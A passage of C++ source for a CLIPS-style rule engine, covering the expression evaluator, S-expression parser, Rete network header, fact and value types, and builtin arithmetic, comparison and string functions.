                vals.push_back(eval(slot_form.items[j], binds));
            if (tmpl->slots[idx].multislot) {
                slots.emplace_back(slot_name,
                                   Value::multi(std::move(vals)));
            } else {
                fatalIf(vals.size() != 1, "assert ", name, ": slot ",
                        slot_name, " takes one value");
                slots.emplace_back(slot_name, vals[0]);
            }
        }
        return Value::integer((int64_t)assertFact(name, slots));
    }

    // Ordered fact.
    impliedTemplate(name, form.items.size() - 1);
    std::vector<Value> vals;
    for (size_t i = 1; i < form.items.size(); ++i)
        vals.push_back(eval(form.items[i], binds));
    FactId id = assertFact(name, {{"__implied",
                                   Value::multi(std::move(vals))}});
    return Value::integer((int64_t)id);
}

Value
Environment::callDefFunction(const DefFunction &fn,
                             std::vector<Value> &args)
{
    fatalIf(args.size() < fn.params.size(),
            "function ", fn.name, ": expected at least ",
            fn.params.size(), " args, got ", args.size());
    fatalIf(fn.restParam.empty() && args.size() != fn.params.size(),
            "function ", fn.name, ": expected ", fn.params.size(),
            " args, got ", args.size());
    Bindings binds;
    for (size_t i = 0; i < fn.params.size(); ++i)
        binds.vars[fn.params[i]] = args[i];
    if (!fn.restParam.empty()) {
        std::vector<Value> rest(args.begin() + fn.params.size(),
                                args.end());
        binds.vars[fn.restParam] = Value::multi(std::move(rest));
    }
    Value result;
    for (const auto &expr : fn.body)
        result = eval(expr, binds);
    return result;
}

Value
Environment::evalCall(const Sexpr &expr, Bindings &binds)
{
    // Not fatalIf: its arguments are evaluated unconditionally, and
    // stringifying every expression dominated the event path.
    if (expr.items.empty() || !expr.items[0].isSymbol()) [[unlikely]]
        fatal("cannot evaluate ", expr.toString());
    const std::string &fn = expr.items[0].text;
    const auto &args = expr.items;

    // Every special form below starts with one of these letters;
    // builtin operators (<, eq, str-cat, ...) skip the whole
    // comparison chain. Jumps only over the nested if-scopes, never
    // over an initialization in this scope.
    switch (fn[0]) {
      case 'a': case 'b': case 'i': case 'm':
      case 'o': case 'p': case 'r': case 'w':
        break;
      default:
        goto regular_call;
    }

    //
    // Special forms (lazy argument evaluation).
    //
    if (fn == "if") {
        // (if expr then a... [else b...])
        fatalIf(args.size() < 3 || !args[2].isSymbol("then"),
                "if: expected (if expr then ... [else ...])");
        size_t else_idx = args.size();
        for (size_t i = 3; i < args.size(); ++i) {
            if (args[i].isSymbol("else")) {
                else_idx = i;
                break;
            }
        }
        Value result;
        if (eval(args[1], binds).truthy()) {
            for (size_t i = 3; i < else_idx; ++i)
                result = eval(args[i], binds);
        } else {
            for (size_t i = else_idx + 1; i < args.size(); ++i)
                result = eval(args[i], binds);
        }
        return result;
    }
    if (fn == "while") {
        // (while expr [do] actions...)
        fatalIf(args.size() < 2, "while: missing condition");
        size_t body_start = 2;
        if (body_start < args.size() && args[body_start].isSymbol("do"))
            ++body_start;
        int guard = 0;
        while (eval(args[1], binds).truthy()) {
            for (size_t i = body_start; i < args.size(); ++i)
                eval(args[i], binds);
            fatalIf(++guard > 1000000, "while: runaway loop");
        }
        return Value::boolean(false);
    }
    if (fn == "bind") {
        fatalIf(args.size() < 3 ||
                (args[1].kind != Sexpr::Kind::Variable &&
                 args[1].kind != Sexpr::Kind::MultiVar &&
                 args[1].kind != Sexpr::Kind::GlobalVar),
                "bind: expected (bind ?var value...)");
        std::vector<Value> vals;
        for (size_t i = 2; i < args.size(); ++i)
            vals.push_back(eval(args[i], binds));
        Value v = vals.size() == 1 ? vals[0]
                                   : Value::multi(std::move(vals));
        if (args[1].kind == Sexpr::Kind::GlobalVar) {
            globals_[args[1].text] = v;
            markAllTestRulesDirty();
        } else {
            binds.vars[args[1].text] = v;
        }
        return v;
    }
    if (fn == "assert") {
        Value last;
        for (size_t i = 1; i < args.size(); ++i)
            last = doAssert(args[i], binds);
        return last;
    }
    if (fn == "modify") {
        // (modify ?f (slot value...) ...): retract + re-assert with
        // the given slots replaced; returns the new fact address.
        fatalIf(args.size() < 2 ||
                args[1].kind != Sexpr::Kind::Variable,
                "modify: expected (modify ?fact (slot value)...)");
        auto fit = binds.factVars.find(args[1].text);
        fatalIf(fit == binds.factVars.end(),
                "modify: ?", args[1].text, " is not a fact address");
        const Fact *old = fact(fit->second);
        fatalIf(!old, "modify: fact already retracted");
        const Template *tmpl = old->tmpl;

        std::vector<std::pair<std::string, Value>> slots;
        for (size_t i = 0; i < tmpl->slots.size(); ++i)
            slots.emplace_back(tmpl->slots[i].name, old->slots[i]);
        for (size_t i = 2; i < args.size(); ++i) {
            const Sexpr &slot_form = args[i];
            fatalIf(!slot_form.isList() || slot_form.items.empty() ||
                    !slot_form.items[0].isSymbol(),
                    "modify: expected (slot value...)");
            const std::string &slot_name = slot_form.items[0].text;
            int idx = tmpl->slotIndex(slot_name);
            fatalIf(idx < 0, "modify: unknown slot ", slot_name);
            std::vector<Value> vals;
            for (size_t j = 1; j < slot_form.items.size(); ++j)
                vals.push_back(eval(slot_form.items[j], binds));
            if (tmpl->slots[idx].multislot) {
                slots[idx].second = Value::multi(std::move(vals));
            } else {
                fatalIf(vals.size() != 1, "modify: slot ", slot_name,
                        " takes one value");
                slots[idx].second = vals[0];
            }
        }
        retract(fit->second);
        return Value::integer(
            (int64_t)assertFact(tmpl->name, slots));
    }
    if (fn == "retract") {
        for (size_t i = 1; i < args.size(); ++i) {
            Value v = eval(args[i], binds);
            fatalIf(!v.isInteger(), "retract: expected fact address");
            retract((FactId)v.intValue());
        }
        return Value::boolean(true);
    }
    if (fn == "and") {
        Value v = Value::boolean(true);
        for (size_t i = 1; i < args.size(); ++i) {
            v = eval(args[i], binds);
            if (!v.truthy())
                return Value::boolean(false);
        }
        return v;
    }
    if (fn == "or") {
        for (size_t i = 1; i < args.size(); ++i) {
            Value v = eval(args[i], binds);
            if (v.truthy())
                return v;
        }
        return Value::boolean(false);
    }
    if (fn == "printout") {
        fatalIf(args.size() < 2, "printout: missing router");
        std::ostream &os = output();
        for (size_t i = 2; i < args.size(); ++i) {
            if (args[i].isSymbol("crlf")) {
                os << "\n";
            } else {
                os << eval(args[i], binds).display();
            }
        }
        return Value::boolean(true);
    }
    if (fn == "progn") {
        Value v;
        for (size_t i = 1; i < args.size(); ++i)
            v = eval(args[i], binds);
        return v;
    }

    //
    // Regular calls: evaluate arguments eagerly. The argument
    // vector is recycled through a pool so the steady state makes
    // no allocation per call.
    //
  regular_call:
    std::vector<Value> vals;
    if (!valsPool_.empty()) {
        vals = std::move(valsPool_.back());
        valsPool_.pop_back();
    }
    vals.reserve(args.size() - 1);
    for (size_t i = 1; i < args.size(); ++i)
        vals.push_back(eval(args[i], binds));

    Value result;
    auto dit = functions_.find(fn);
    if (dit != functions_.end()) {
        result = callDefFunction(dit->second, vals);
    } else {
        auto nit = natives_.find(fn);
        if (nit == natives_.end()) [[unlikely]]
            fatal("unknown function ", fn);
        result = nit->second(*this, vals);
    }
    vals.clear();
    valsPool_.push_back(std::move(vals));
    return result;
}

void
Environment::registerFunction(const std::string &name, NativeFn fn)
{
    natives_[name] = std::move(fn);
    markAllTestRulesDirty();
}

Value
Environment::getGlobal(const std::string &name) const
{
    auto it = globals_.find(name);
    fatalIf(it == globals_.end(), "unknown global ?*", name, "*");
    return it->second;
}

void
Environment::setGlobal(const std::string &name, Value v)
{
    globals_[name] = std::move(v);
    // Test CEs read globals during matching: their rules must
    // re-match even though no fact changed.
    markAllTestRulesDirty();
}

} // namespace hth::clips
