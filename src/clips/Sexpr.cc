#include "clips/Sexpr.hh"

#include <cctype>
#include <cstdlib>

#include "support/Logging.hh"

namespace hth::clips
{

std::string
Sexpr::head() const
{
    if (kind == Kind::List && !items.empty() && items[0].isSymbol())
        return items[0].text;
    return "";
}

std::string
Sexpr::toString() const
{
    switch (kind) {
      case Kind::List: {
        std::string out = "(";
        for (size_t i = 0; i < items.size(); ++i) {
            if (i)
                out += " ";
            out += items[i].toString();
        }
        return out + ")";
      }
      case Kind::Symbol:
        return text;
      case Kind::String:
        return "\"" + text + "\"";
      case Kind::Integer:
        return std::to_string(intValue);
      case Kind::Float:
        return std::to_string(floatValue);
      case Kind::Variable:
        return "?" + text;
      case Kind::MultiVar:
        return "$?" + text;
      case Kind::GlobalVar:
        return "?*" + text + "*";
    }
    return "?";
}

namespace
{

/** Character classes that end a bare token. */
bool
isDelim(char c)
{
    return c == '(' || c == ')' || c == '"' || c == ';' ||
           std::isspace((unsigned char)c);
}

class Parser
{
  public:
    explicit Parser(const std::string &src) : src_(src) {}

    std::vector<Sexpr>
    parseAll()
    {
        std::vector<Sexpr> out;
        skipWs();
        while (pos_ < src_.size()) {
            out.push_back(parseExpr());
            skipWs();
        }
        return out;
    }

  private:
    void
    skipWs()
    {
        while (pos_ < src_.size()) {
            char c = src_[pos_];
            if (c == ';') {
                while (pos_ < src_.size() && src_[pos_] != '\n')
                    ++pos_;
            } else if (std::isspace((unsigned char)c)) {
                ++pos_;
            } else {
                break;
            }
        }
    }

    char
    peek() const
    {
        return pos_ < src_.size() ? src_[pos_] : '\0';
    }

    Sexpr
    parseExpr()
    {
        skipWs();
        fatalIf(pos_ >= src_.size(), "clips reader: unexpected end");
        char c = src_[pos_];
        if (c == '(')
            return parseList();
        if (c == ')')
            fatal("clips reader: unexpected ')' at offset ", pos_);
        if (c == '"')
            return parseString();
        return parseAtom();
    }

    Sexpr
    parseList()
    {
        ++pos_; // consume '('
        Sexpr list;
        list.kind = Sexpr::Kind::List;
        while (true) {
            skipWs();
            fatalIf(pos_ >= src_.size(), "clips reader: unbalanced '('");
            if (src_[pos_] == ')') {
                ++pos_;
                return list;
            }
            list.items.push_back(parseExpr());
        }
    }

    Sexpr
    parseString()
    {
        ++pos_; // consume opening quote
        Sexpr node;
        node.kind = Sexpr::Kind::String;
        while (true) {
            fatalIf(pos_ >= src_.size(), "clips reader: unclosed string");
            char c = src_[pos_++];
            if (c == '"')
                return node;
            if (c == '\\') {
                fatalIf(pos_ >= src_.size(),
                        "clips reader: dangling escape");
                char esc = src_[pos_++];
                switch (esc) {
                  case 'n': node.text.push_back('\n'); break;
                  case 't': node.text.push_back('\t'); break;
                  default: node.text.push_back(esc); break;
                }
            } else {
                node.text.push_back(c);
            }
        }
    }

    Sexpr
    parseAtom()
    {
        size_t start = pos_;
        while (pos_ < src_.size() && !isDelim(src_[pos_]))
            ++pos_;
        std::string tok = src_.substr(start, pos_ - start);
        fatalIf(tok.empty(), "clips reader: empty token");

        Sexpr node;
        // Variables: $?x, ?*x*, ?x.
        if (tok.size() > 2 && tok[0] == '$' && tok[1] == '?') {
            node.kind = Sexpr::Kind::MultiVar;
            node.text = tok.substr(2);
            return node;
        }
        if (tok.size() > 3 && tok[0] == '?' && tok[1] == '*' &&
            tok.back() == '*') {
            node.kind = Sexpr::Kind::GlobalVar;
            node.text = tok.substr(2, tok.size() - 3);
            return node;
        }
        if (tok.size() > 1 && tok[0] == '?') {
            node.kind = Sexpr::Kind::Variable;
            node.text = tok.substr(1);
            return node;
        }

        // Numbers: optional sign, digits, optional fraction/exponent.
        char *end = nullptr;
        if (std::isdigit((unsigned char)tok[0]) ||
            ((tok[0] == '-' || tok[0] == '+') && tok.size() > 1 &&
             std::isdigit((unsigned char)tok[1]))) {
            long long iv = std::strtoll(tok.c_str(), &end, 10);
            if (end && *end == '\0') {
                node.kind = Sexpr::Kind::Integer;
                node.intValue = iv;
                return node;
            }
            double fv = std::strtod(tok.c_str(), &end);
            if (end && *end == '\0') {
                node.kind = Sexpr::Kind::Float;
                node.floatValue = fv;
                return node;
            }
        }

        node.kind = Sexpr::Kind::Symbol;
        node.text = tok;
        return node;
    }

    const std::string &src_;
    size_t pos_ = 0;
};

} // namespace

std::vector<Sexpr>
parseSexprs(const std::string &source)
{
    return Parser(source).parseAll();
}

Sexpr
parseOneSexpr(const std::string &source)
{
    auto all = parseSexprs(source);
    fatalIf(all.size() != 1, "expected exactly one expression, got ",
            all.size());
    return all[0];
}

} // namespace hth::clips
