/**
 * @file
 * Rete network: delta-driven pattern matching.
 *
 * The classic two-layer discrimination network (Forgy 1982, the
 * engine inside real CLIPS 6.x):
 *
 *  - The *alpha* layer tests facts against the constant parts of one
 *    pattern (template + literal slot values). Alpha nodes are shared
 *    across every rule whose pattern carries the same constants and
 *    keep a memory of the facts that pass. Per template, alpha nodes
 *    are reached through a hash index on their most discriminating
 *    literal, so an assert touches only the alphas whose constants
 *    can match — match cost stays flat as the rule count grows.
 *
 *  - The *beta* layer joins alpha memories left to right along each
 *    rule's LHS. Each join / not / exists / test node stores the
 *    partial matches (tokens) that reached it, so an assert or
 *    retract propagates only the *delta*: a plus-token extends
 *    existing partial matches, a minus-token tears down exactly the
 *    tokens the dead fact supported. Negated patterns keep a
 *    support counter per left token and emit or withdraw their
 *    output token on 0↔1 flips. Rules with a common CE prefix share
 *    the beta chain up to the point they diverge.
 *
 * Terminal nodes convert arriving tokens into agenda activations
 * (and token removal into agenda withdrawals); run() never
 * recomputes matches under this strategy. The naive and dirty-rescan
 * matchers are kept as differential oracles — see
 * tests/integration/DifferentialTest.cc.
 */

#ifndef HTH_CLIPS_RETE_HH
#define HTH_CLIPS_RETE_HH

#include <memory>
#include <string>
#include <unordered_map>
#include <vector>

#include "clips/Environment.hh"

namespace hth::clips
{

class ReteNetwork
{
  public:
    explicit ReteNetwork(Environment &env);
    ~ReteNetwork();

    ReteNetwork(const ReteNetwork &) = delete;
    ReteNetwork &operator=(const ReteNetwork &) = delete;

    /** Compile @p rule into the network, sharing alpha nodes and
     * beta prefixes with already-present rules, and prime it against
     * the facts already in the network's memories. */
    void addRule(const Rule &rule);

    /** A fact entered working memory: run it through the alpha
     * index and propagate plus-tokens. */
    void onAssert(const Fact *f);

    /** A fact is leaving working memory. Must be called while the
     * fact's slots are still intact: negated patterns re-unify
     * against it to decrement their support counters. */
    void onRetract(const Fact *f);

    /** A global, deffunction or native changed: re-evaluate every
     * test node over its parent memory and propagate the flips. */
    void onTestsInvalidated();

    /** @name Introspection (tests, telemetry) @{ */
    size_t liveTokens() const;
    size_t alphaNodeCount() const { return alphaCount_; }
    size_t betaNodeCount() const { return betaCount_; }
    /** @} */

  private:
    struct BetaNode;

    /** One constant test: the fact's slot value must equal expect
     * (for a fully-literal multislot pattern, expect is the whole
     * multifield). */
    struct AlphaTest
    {
        int slotIndex = -1;
        Value expect;
    };

    struct AlphaNode
    {
        const Template *tmpl = nullptr;
        std::vector<AlphaTest> tests;   //!< sorted by slotIndex
        std::vector<const Fact *> memory;
        /** Join/not/exists nodes fed by this alpha, deepest first —
         * right-activating descendants before ancestors is what
         * keeps a self-joining rule from producing duplicate
         * tokens (Doorenbos §2.4.1). */
        std::vector<BetaNode *> successors;
    };

    /** A partial match: the chain of facts matched so far plus the
     * cumulative variable bindings. Negation / exists / test nodes
     * emit pass-through tokens with fact == nullptr.
     *
     * Bindings are owned by the nearest ancestor that actually
     * extended them; pass-through tokens (and joins that bound
     * nothing new) alias that ancestor via bindsOwner instead of
     * copying the whole map per node. The owner is always an
     * ancestor and descendants die first, so the alias cannot
     * dangle. */
    struct Token
    {
        BetaNode *node = nullptr;   //!< the memory holding this token
        Token *parent = nullptr;
        const Fact *fact = nullptr;
        Token *bindsOwner = nullptr; //!< whose binds are authoritative
        Bindings binds;              //!< valid iff bindsOwner == this
        std::vector<Token *> children;
    };

    /** Per-left-token support for a not/exists node. */
    struct NegEntry
    {
        uint64_t count = 0;     //!< alpha facts matching the token
        Token *out = nullptr;   //!< pass-through token, when emitted
    };

    struct BetaNode
    {
        enum class Kind { Root, Join, Neg, Exists, Test, Terminal };

        Kind kind = Kind::Root;
        BetaNode *parent = nullptr;
        std::vector<BetaNode *> successors;
        int depth = 0;              //!< root is 0
        std::string shareKey;       //!< structural signature

        AlphaNode *alpha = nullptr; //!< Join / Neg / Exists
        PatternCE pattern;          //!< Join / Neg / Exists
        Sexpr testExpr;             //!< Test
        bool testMutates = false;   //!< Test
        const Rule *rule = nullptr; //!< Terminal

        std::vector<std::unique_ptr<Token>> memory;
        /** Keyed by left-parent token; never iterated (order-free). */
        std::unordered_map<Token *, NegEntry> negEntries;
    };

    /** @name Network construction @{ */
    AlphaNode *internAlpha(const PatternCE &pat);
    BetaNode *internChild(BetaNode *parent, const CondElement &ce);
    void attachToAlpha(AlphaNode *alpha, BetaNode *node);
    void primeNode(BetaNode *node);
    static std::string alphaKeyOf(const Template *tmpl,
                                  const std::vector<AlphaTest> &tests);
    static std::string ceKeyOf(const CondElement &ce);
    /** @} */

    /** @name Delta propagation @{ */
    static bool alphaAccepts(const AlphaNode *a, const Fact *f);
    void alphaPlus(AlphaNode *alpha, const Fact *f);
    void rightPlus(BetaNode *node, const Fact *f);
    void rightMinus(BetaNode *node, const Fact *f);
    void leftPlus(BetaNode *node, Token *left);
    void propagatePlus(Token *tok);
    void tryJoin(BetaNode *join, Token *left, const Fact *f);
    bool probeMatch(BetaNode *node, Token *left, const Fact *f);
    uint64_t countAlphaMatches(BetaNode *node, Token *left);
    bool evalTest(BetaNode *node, Token *left);
    std::unique_ptr<Token> allocToken();
    Token *makeToken(BetaNode *node, Token *parent, const Fact *f,
                     Bindings binds);
    Token *makeSharedToken(BetaNode *node, Token *parent,
                           const Fact *f);
    static Bindings &bindsOf(Token *tok) { return tok->bindsOwner->binds; }
    void removeToken(Token *tok);
    static Token *findChildAt(Token *left, BetaNode *node);
    static std::vector<FactId> factsOf(const Token *tok);
    /** @} */

    Environment &env_;
    BetaNode root_;
    Token *rootToken_ = nullptr;

    std::vector<std::unique_ptr<AlphaNode>> alphas_;
    std::vector<std::unique_ptr<BetaNode>> nodes_;
    std::vector<BetaNode *> testNodes_;     //!< creation (topo) order
    size_t alphaCount_ = 0;
    size_t betaCount_ = 0;      //!< excludes the root

    /** Alpha sharing: structural signature -> node. */
    std::unordered_map<std::string, AlphaNode *> alphaBySig_;

    /** Per-template alpha routing: constant-free alphas are always
     * probed; the rest are grouped by the SET of slots their tests
     * constrain and hashed on the compound (slot, literal) key over
     * that whole set. An assert does one hash probe per distinct
     * slot set (a handful per template, however many alphas exist),
     * and every alpha in the hit bucket matches by construction —
     * no residual scan, so routing cost is independent of both the
     * rule count and the alpha count. */
    struct SlotSetIndex
    {
        std::vector<int> slots;     //!< ascending test slot indices
        std::unordered_map<std::string, std::vector<AlphaNode *>> byKey;
    };
    struct TemplateAlphas
    {
        std::vector<AlphaNode *> unindexed;
        std::vector<SlotSetIndex> slotSets;
    };
    std::unordered_map<const Template *, TemplateAlphas> alphasByTmpl_;

    /** Which alpha memories hold each fact (for retraction). */
    std::unordered_map<FactId, std::vector<AlphaNode *>> factAlphas_;

    /** Dead tokens kept for reuse: the steady state of event
     * processing is a handful of tokens created and destroyed per
     * event, and recycling keeps their children vectors' capacity
     * warm instead of paying an allocation round-trip each time.
     * Bounded by the peak live-token count. */
    std::vector<std::unique_ptr<Token>> tokenPool_;
};

} // namespace hth::clips

#endif // HTH_CLIPS_RETE_HH
