#include "clips/Fact.hh"

#include "support/Logging.hh"

namespace hth::clips
{

const Value &
Fact::slot(const std::string &name) const
{
    int idx = tmpl->slotIndex(name);
    panicIf(idx < 0, "fact ", tmpl->name, " has no slot ", name);
    return slots[idx];
}

std::string
Fact::toString() const
{
    if (tmpl->implied) {
        std::string out = "(" + tmpl->name;
        for (const auto &v : slots[0].items())
            out += " " + v.toString();
        return out + ")";
    }
    std::string out = "(" + tmpl->name;
    for (size_t i = 0; i < slots.size(); ++i) {
        out += " (" + tmpl->slots[i].name;
        if (slots[i].isMulti()) {
            for (const auto &v : slots[i].items())
                out += " " + v.toString();
        } else {
            out += " " + slots[i].toString();
        }
        out += ")";
    }
    return out + ")";
}

} // namespace hth::clips
