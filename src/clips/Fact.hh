/**
 * @file
 * Deftemplates and facts for the CLIPS working memory.
 */

#ifndef HTH_CLIPS_FACT_HH
#define HTH_CLIPS_FACT_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "clips/Value.hh"

namespace hth::clips
{

using FactId = uint64_t;

/** One slot of a deftemplate. */
struct SlotDef
{
    std::string name;
    bool multislot = false;
    bool hasDefault = false;
    Value defaultValue;
};

/**
 * A deftemplate: named, ordered slots.
 *
 * Ordered facts (e.g. `(colour red)`) are represented with an implied
 * template holding one multislot named `__implied`, mirroring how
 * CLIPS itself models them.
 */
struct Template
{
    std::string name;
    std::vector<SlotDef> slots;
    bool implied = false;

    /** Index of @p slot_name, or -1 when absent. */
    int
    slotIndex(const std::string &slot_name) const
    {
        for (size_t i = 0; i < slots.size(); ++i)
            if (slots[i].name == slot_name)
                return (int)i;
        return -1;
    }
};

/** A fact in working memory. */
struct Fact
{
    FactId id = 0;
    const Template *tmpl = nullptr;
    std::vector<Value> slots;   //!< parallel to tmpl->slots
    bool retracted = false;

    /** Value of the named slot; panics if the slot does not exist. */
    const Value &slot(const std::string &name) const;

    /** Render as `(template (slot value)...)`. */
    std::string toString() const;
};

} // namespace hth::clips

#endif // HTH_CLIPS_FACT_HH
