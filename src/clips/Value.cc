#include "clips/Value.hh"

#include <sstream>

#include "support/Logging.hh"

namespace hth::clips
{

Value
Value::sym(std::string s)
{
    Value v;
    v.type_ = Type::Symbol;
    v.text_ = std::move(s);
    return v;
}

Value
Value::str(std::string s)
{
    Value v;
    v.type_ = Type::String;
    v.text_ = std::move(s);
    return v;
}

Value
Value::integer(int64_t i)
{
    Value v;
    v.type_ = Type::Integer;
    v.text_.clear();
    v.int_ = i;
    return v;
}

Value
Value::real(double f)
{
    Value v;
    v.type_ = Type::Float;
    v.text_.clear();
    v.float_ = f;
    return v;
}

Value
Value::multi(std::vector<Value> items)
{
    // Multifields are flat in CLIPS; splice any nested multifields.
    std::vector<Value> flat;
    flat.reserve(items.size());
    for (auto &item : items) {
        if (item.isMulti()) {
            for (auto &sub : item.items())
                flat.push_back(std::move(sub));
        } else {
            flat.push_back(std::move(item));
        }
    }
    Value v;
    v.type_ = Type::Multi;
    v.text_.clear();
    v.items_ = std::move(flat);
    return v;
}

Value
Value::boolean(bool b)
{
    return sym(b ? "TRUE" : "FALSE");
}

double
Value::asDouble() const
{
    if (isInteger())
        return (double)int_;
    if (isFloat())
        return float_;
    panic("non-numeric value in arithmetic: ", toString());
}

bool
Value::truthy() const
{
    return !(isSymbol() && text_ == "FALSE");
}

bool
Value::operator==(const Value &other) const
{
    if (type_ != other.type_)
        return false;
    switch (type_) {
      case Type::Symbol:
      case Type::String:
        return text_ == other.text_;
      case Type::Integer:
        return int_ == other.int_;
      case Type::Float:
        return float_ == other.float_;
      case Type::Multi:
        return items_ == other.items_;
    }
    return false;
}

std::string
Value::toString() const
{
    switch (type_) {
      case Type::Symbol:
        return text_;
      case Type::String:
        return "\"" + text_ + "\"";
      case Type::Integer:
        return std::to_string(int_);
      case Type::Float: {
        std::ostringstream oss;
        oss << float_;
        return oss.str();
      }
      case Type::Multi: {
        std::string out = "(";
        for (size_t i = 0; i < items_.size(); ++i) {
            if (i)
                out += " ";
            out += items_[i].toString();
        }
        out += ")";
        return out;
      }
    }
    return "?";
}

std::string
Value::display() const
{
    switch (type_) {
      case Type::Symbol:
      case Type::String:
        return text_;
      case Type::Multi: {
        std::string out;
        for (size_t i = 0; i < items_.size(); ++i) {
            if (i)
                out += " ";
            out += items_[i].display();
        }
        return out;
      }
      default:
        return toString();
    }
}

} // namespace hth::clips
