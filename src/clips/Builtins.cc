/**
 * @file
 * Builtin CLIPS functions: arithmetic, comparison, string and
 * multifield operations, type predicates.
 */

#include <algorithm>
#include <cmath>

#include "clips/Environment.hh"
#include "support/Logging.hh"

namespace hth::clips
{

namespace
{

using Args = std::vector<Value>;

void
needArgs(const std::string &fn, const Args &args, size_t n)
{
    fatalIf(args.size() != n, fn, ": expected ", n, " args, got ",
            args.size());
}

void
needAtLeast(const std::string &fn, const Args &args, size_t n)
{
    fatalIf(args.size() < n, fn, ": expected at least ", n,
            " args, got ", args.size());
}

bool
allIntegers(const Args &args)
{
    return std::all_of(args.begin(), args.end(),
                       [](const Value &v) { return v.isInteger(); });
}

/** Chainable numeric comparison: (< a b c) means a<b and b<c. */
template <typename Cmp>
Value
numericChain(const std::string &fn, Args &args, Cmp cmp)
{
    needAtLeast(fn, args, 2);
    for (size_t i = 0; i + 1 < args.size(); ++i) {
        fatalIf(!args[i].isNumber() || !args[i + 1].isNumber(),
                fn, ": non-numeric argument");
        if (!cmp(args[i].asDouble(), args[i + 1].asDouble()))
            return Value::boolean(false);
    }
    return Value::boolean(true);
}

} // namespace

void
Environment::installBuiltins()
{
    //
    // Arithmetic
    //
    registerFunction("+", [](Environment &, Args &args) {
        needAtLeast("+", args, 1);
        if (allIntegers(args)) {
            int64_t sum = 0;
            for (const auto &v : args)
                sum += v.intValue();
            return Value::integer(sum);
        }
        double sum = 0;
        for (const auto &v : args)
            sum += v.asDouble();
        return Value::real(sum);
    });
    registerFunction("-", [](Environment &, Args &args) {
        needAtLeast("-", args, 1);
        if (allIntegers(args)) {
            int64_t acc = args[0].intValue();
            if (args.size() == 1)
                return Value::integer(-acc);
            for (size_t i = 1; i < args.size(); ++i)
                acc -= args[i].intValue();
            return Value::integer(acc);
        }
        double acc = args[0].asDouble();
        if (args.size() == 1)
            return Value::real(-acc);
        for (size_t i = 1; i < args.size(); ++i)
            acc -= args[i].asDouble();
        return Value::real(acc);
    });
    registerFunction("*", [](Environment &, Args &args) {
        needAtLeast("*", args, 1);
        if (allIntegers(args)) {
            int64_t acc = 1;
            for (const auto &v : args)
                acc *= v.intValue();
            return Value::integer(acc);
        }
        double acc = 1;
        for (const auto &v : args)
            acc *= v.asDouble();
        return Value::real(acc);
    });
    registerFunction("/", [](Environment &, Args &args) {
        needAtLeast("/", args, 2);
        double acc = args[0].asDouble();
        for (size_t i = 1; i < args.size(); ++i) {
            double d = args[i].asDouble();
            fatalIf(d == 0.0, "/: division by zero");
            acc /= d;
        }
        return Value::real(acc);
    });
    registerFunction("div", [](Environment &, Args &args) {
        needAtLeast("div", args, 2);
        int64_t acc = args[0].intValue();
        for (size_t i = 1; i < args.size(); ++i) {
            fatalIf(args[i].intValue() == 0, "div: division by zero");
            acc /= args[i].intValue();
        }
        return Value::integer(acc);
    });
    registerFunction("mod", [](Environment &, Args &args) {
        needArgs("mod", args, 2);
        fatalIf(args[1].intValue() == 0, "mod: division by zero");
        return Value::integer(args[0].intValue() % args[1].intValue());
    });
    registerFunction("abs", [](Environment &, Args &args) {
        needArgs("abs", args, 1);
        if (args[0].isInteger())
            return Value::integer(std::abs(args[0].intValue()));
        return Value::real(std::fabs(args[0].asDouble()));
    });
    registerFunction("min", [](Environment &, Args &args) {
        needAtLeast("min", args, 1);
        Value best = args[0];
        for (const auto &v : args)
            if (v.asDouble() < best.asDouble())
                best = v;
        return best;
    });
    registerFunction("max", [](Environment &, Args &args) {
        needAtLeast("max", args, 1);
        Value best = args[0];
        for (const auto &v : args)
            if (v.asDouble() > best.asDouble())
                best = v;
        return best;
    });

    //
    // Comparison
    //
    registerFunction("<", [](Environment &, Args &args) {
        return numericChain("<", args, std::less<>());
    });
    registerFunction("<=", [](Environment &, Args &args) {
        return numericChain("<=", args, std::less_equal<>());
    });
    registerFunction(">", [](Environment &, Args &args) {
        return numericChain(">", args, std::greater<>());
    });
    registerFunction(">=", [](Environment &, Args &args) {
        return numericChain(">=", args, std::greater_equal<>());
    });
    registerFunction("=", [](Environment &, Args &args) {
        return numericChain("=", args, std::equal_to<>());
    });
    registerFunction("<>", [](Environment &, Args &args) {
        return numericChain("<>", args, std::not_equal_to<>());
    });
    registerFunction("eq", [](Environment &, Args &args) {
        needAtLeast("eq", args, 2);
        for (size_t i = 1; i < args.size(); ++i)
            if (!(args[i] == args[0]))
                return Value::boolean(false);
        return Value::boolean(true);
    });
    registerFunction("neq", [](Environment &, Args &args) {
        needAtLeast("neq", args, 2);
        for (size_t i = 1; i < args.size(); ++i)
            if (args[i] == args[0])
                return Value::boolean(false);
        return Value::boolean(true);
    });
    registerFunction("not", [](Environment &, Args &args) {
        needArgs("not", args, 1);
        return Value::boolean(!args[0].truthy());
    });

    //
    // Strings
    //
    registerFunction("str-cat", [](Environment &, Args &args) {
        std::string out;
        for (const auto &v : args)
            out += v.display();
        return Value::str(out);
    });
    registerFunction("sym-cat", [](Environment &, Args &args) {
        std::string out;
        for (const auto &v : args)
            out += v.display();
        return Value::sym(out);
    });
    registerFunction("str-length", [](Environment &, Args &args) {
        needArgs("str-length", args, 1);
        return Value::integer((int64_t)args[0].text().size());
    });
    registerFunction("upcase", [](Environment &, Args &args) {
        needArgs("upcase", args, 1);
        std::string s = args[0].text();
        std::transform(s.begin(), s.end(), s.begin(), ::toupper);
        return args[0].isString() ? Value::str(s) : Value::sym(s);
    });
    registerFunction("lowcase", [](Environment &, Args &args) {
        needArgs("lowcase", args, 1);
        std::string s = args[0].text();
        std::transform(s.begin(), s.end(), s.begin(), ::tolower);
        return args[0].isString() ? Value::str(s) : Value::sym(s);
    });
    registerFunction("str-index", [](Environment &, Args &args) {
        needArgs("str-index", args, 2);
        size_t pos = args[1].text().find(args[0].text());
        if (pos == std::string::npos)
            return Value::boolean(false);
        return Value::integer((int64_t)pos + 1);
    });
    registerFunction("sub-string", [](Environment &, Args &args) {
        needArgs("sub-string", args, 3);
        int64_t begin = args[0].intValue();
        int64_t end = args[1].intValue();
        const std::string &s = args[2].text();
        if (begin < 1 || end < begin || (size_t)begin > s.size())
            return Value::str("");
        end = std::min<int64_t>(end, (int64_t)s.size());
        return Value::str(s.substr(begin - 1, end - begin + 1));
    });
    registerFunction("str-compare", [](Environment &, Args &args) {
        needArgs("str-compare", args, 2);
        return Value::integer(
            (int64_t)args[0].text().compare(args[1].text()));
    });

    //
    // Multifields
    //
    registerFunction("create$", [](Environment &, Args &args) {
        return Value::multi(args);
    });
